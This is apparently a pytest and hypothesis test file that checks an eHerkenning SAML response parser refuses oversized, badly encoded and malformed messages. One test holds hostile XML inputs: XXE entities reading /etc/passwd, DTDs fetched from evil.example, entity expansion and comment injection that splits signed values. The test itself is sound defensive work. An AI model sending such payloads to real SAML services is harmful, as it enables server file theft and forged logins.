"""What anybody may post: bytes that are no message, and messages that try the parser."""

import base64
import codecs

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree

from koppeling.eherkenning.outcome import Aanmelding, Check, Geweigerd
from koppeling.eherkenning.response import MAX_BYTES
from tests.eherkenning import forge
from tests.eherkenning.reading import accepted, read, refused

GOOD = etree.tostring(forge.response())


@pytest.mark.parametrize("text", ["", "\r\n", "A" * 10_000_000, "A" * (MAX_BYTES * 4 // 3 + 1)])
def test_nothing_and_too_much_are_refused_before_decoding(text: str) -> None:
    refused(text, Check.SIZE)


def test_a_padded_message_of_ten_megabytes_is_refused() -> None:
    refused(GOOD.replace(b"<samlp:Status>", b" " * 10_000_000 + b"<samlp:Status>"), Check.SIZE)


@pytest.mark.parametrize("text", ["?", "é", "AAA", "AA=A", "%3D", "AA AA", "A" * 1001, "<samlp:Response/>"])
def test_what_is_not_base64_is_refused(text: str) -> None:
    refused(text, Check.ENCODING)


def test_lines_of_base64_are_accepted_as_browsers_send_them() -> None:
    text = base64.encodebytes(GOOD).decode().replace("\n", "\r\n")
    assert isinstance(read(text), Aanmelding)


def test_a_declaration_in_utf_8_is_accepted() -> None:
    accepted(b'<?xml version="1.0" encoding="UTF-8"?>\n' + GOOD)
    accepted(b"<?xml version='1.0' standalone=\"no\" ?>" + GOOD)


@pytest.mark.parametrize("length", [1, 100, 2000, len(GOOD) - 1])
def test_a_truncated_message_is_refused(length: int) -> None:
    refused(GOOD[:length], Check.XML)


@pytest.mark.parametrize(
    ("raw", "check"),
    [
        (GOOD.decode().encode("utf-16"), Check.ENCODING),
        (GOOD.decode().encode("utf-16-be"), Check.XML),
        (b'<?xml version="1.0" encoding="UTF-16"?>' + GOOD, Check.XML),
        (b'<?xml version="1.0" encoding="UTF-7"?>' + GOOD, Check.XML),
        (b'<?xml version="1.0" encoding="ISO-8859-1"?>' + GOOD, Check.XML),
        (b'<?xml version="1.1"?>' + GOOD, Check.XML),
        (codecs.BOM_UTF8 + GOOD, Check.XML),
        (GOOD.replace(b"Voorbeeld", b"Voorb\xe9eld"), Check.ENCODING),
        (GOOD.replace(b"Voorbeeld", b"Voor\x00beeld"), Check.XML),
        (GOOD + GOOD, Check.XML),
        (GOOD + b"x", Check.XML),
        (b"x" + GOOD, Check.XML),
        (b"\x00" * 100, Check.XML),
        (bytes(range(256)), Check.ENCODING),
    ],
)
def test_other_encodings_and_garbage_are_refused(raw: bytes, check: Check) -> None:
    refused(raw, check)


NAME = forge.LOA.encode() + b"loa3"


@pytest.mark.parametrize(
    "raw",
    [
        b"<!DOCTYPE samlp:Response>" + GOOD,
        b'<!DOCTYPE x [<!ENTITY e "x">]>' + GOOD.replace(b"Voorbeeld", b"&e;"),
        b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + GOOD.replace(b"Voorbeeld", b"&e;"),
        b'<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">' + GOOD,
        b'<!DOCTYPE x [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>' + GOOD,
        b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]>' + GOOD,
        GOOD.replace(b"Voorbeeld", b"&onbekend;"),
        GOOD.replace(NAME, b"<!-- -->" + NAME),
        GOOD.replace(NAME, NAME[:-1] + b"<!---->" + NAME[-1:]),
        GOOD.replace(b"voorbijgaand", b"voorbij<!-- -->gaand"),
        GOOD.replace(forge.ACS.encode(), forge.ACS.encode() + b"<!-- -->"),
        GOOD.replace(forge.DV.encode() + b"<", forge.DV.encode() + b"<!-- -->.evil.example<"),
        GOOD.replace(b"voorbijgaand", b"<?php x ?>"),
        GOOD.replace(b"voorbijgaand", b"<![CDATA[voorbijgaand]]>"),
        GOOD + b"<!-- na afloop -->",
        b"<?xml-stylesheet href='https://evil.example/'?>" + GOOD,
    ],
)
def test_document_types_entities_comments_and_instructions_are_refused(raw: bytes) -> None:
    """A comment is left out of what is signed, so it could split a value after signing."""
    assert raw != GOOD
    refused(raw, Check.XML)


def test_a_document_that_nests_too_deep_is_refused() -> None:
    refused(b"<a>" * 20_000 + b"</a>" * 20_000, Check.XML)


@pytest.mark.parametrize(
    "xml",
    [
        "<x/>",
        f'<Response xmlns="{forge.NS["saml"]}"/>',
        f'<samlp:LogoutResponse xmlns:samlp="{forge.NS["samlp"]}" ID="_1" Version="2.0"/>',
        f'<samlp:Response xmlns:samlp="{forge.NS["samlp"]}" ID="_1" Version="1.1"/>',
    ],
)
def test_another_message_than_a_response_is_refused(xml: str) -> None:
    refused(xml.encode(), Check.STRUCTURE)


def test_schema_locations_are_not_followed_for_a_stranger() -> None:
    """The schema is only asked about what is signed; this message gets no further than its signature."""
    located = GOOD.replace(b" ID=", b' xsi:schemaLocation="urn:x https://evil.example/x.xsd" ID=', 1)
    refused(located, Check.SIGNATURE)


@given(st.text())
def test_any_text_is_refused_and_raises_nothing(text: str) -> None:
    assert isinstance(read(text), Geweigerd)


@given(st.binary())
def test_any_bytes_are_refused_and_raise_nothing(raw: bytes) -> None:
    assert isinstance(read(raw), Geweigerd)


names = st.sampled_from(["Response", "Assertion", "Signature", "SignedInfo", "Reference", "Issuer", "Status", "x"])
nodes = st.recursive(
    st.text(st.characters(codec="utf-8", exclude_categories=["Cc", "Cs"]), max_size=8),
    lambda inner: st.builds(
        lambda prefix, name, attributes, children: (
            f"<{prefix}:{name} {' '.join(f'{key}={chr(34)}_1{chr(34)}' for key in attributes)}>"
            f"{''.join(children)}</{prefix}:{name}>"
        ),
        st.sampled_from(["samlp", "saml", "ds", "xenc"]),
        names,
        st.sets(st.sampled_from(["ID", "Id", "URI", "Version", "Algorithm", "Value"])),
        st.lists(inner, max_size=4),
    ),
    max_leaves=12,
)


@given(nodes)
def test_any_saml_like_xml_is_refused_and_raises_nothing(inside: str) -> None:
    declared = " ".join(f'xmlns:{prefix}="{uri}"' for prefix, uri in forge.NS.items())
    xml = f'<samlp:Response {declared} ID="_r" Version="2.0">{inside}</samlp:Response>'
    assert isinstance(read(xml.encode()), Geweigerd)


@settings(suppress_health_check=[HealthCheck.too_slow], max_examples=200)
@given(st.integers(0, len(GOOD) - 1), st.binary(max_size=3), st.integers(0, 40))
def test_a_changed_message_never_says_something_else(place: int, insert: bytes, cut: int) -> None:
    """Blanks inside a tag and all of KeyInfo are not signed: a change there may pass, and then changes nothing."""
    result = read(GOOD[:place] + insert + GOOD[place + cut :])
    assert isinstance(result, Geweigerd) or result == read(GOOD)
